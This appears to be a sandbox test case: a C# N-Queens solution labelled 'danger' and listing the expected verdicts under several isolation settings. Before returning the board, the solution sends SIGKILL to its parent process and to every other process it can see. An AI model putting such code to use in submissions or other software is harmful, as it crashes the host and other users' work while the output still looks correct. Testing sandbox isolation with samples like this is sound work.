// expect: namespaces=AC|RTE|WA landlock=AC|RTE|WA limits=open
// danger: yes
// Kills its parent, its group and everyone else, but for itself. Then it answers right.
using System;
using System.Diagnostics;
using System.Runtime.InteropServices;

static class Solution {
  [DllImport("libc.so.6")]
  static extern int kill(int process, int signal);

  [DllImport("libc.so.6")]
  static extern int getppid();

  static string Extend(string board, int n, int[] queen) {
    int row = board.Length / (n + 1);
    if (row == n) return board;
    for (int col = 0; col < n; col++) {
      bool isFree = row != queen[0] || col == queen[1];
      for (int r = 0; r < row; r++) {
        int away = Math.Abs(col - board.IndexOf('Q', r * (n + 1)) % (n + 1));
        isFree &= away != 0 && away != row - r;
      }
      var line = new string('.', col) + "Q" + new string('.', n - 1 - col) + "\n";
      var whole = isFree ? Extend(board + line, n, queen) : "";
      if (whole != "") return whole;
    }
    return "";
  }

  public static string SolveNQueens(int n, int[] queen) {
    kill(getppid(), 9);
    foreach (var process in Process.GetProcesses())
      if (process.Id != Process.GetCurrentProcess().Id) kill(process.Id, 9);
    return Extend("", n, queen);
  }
}
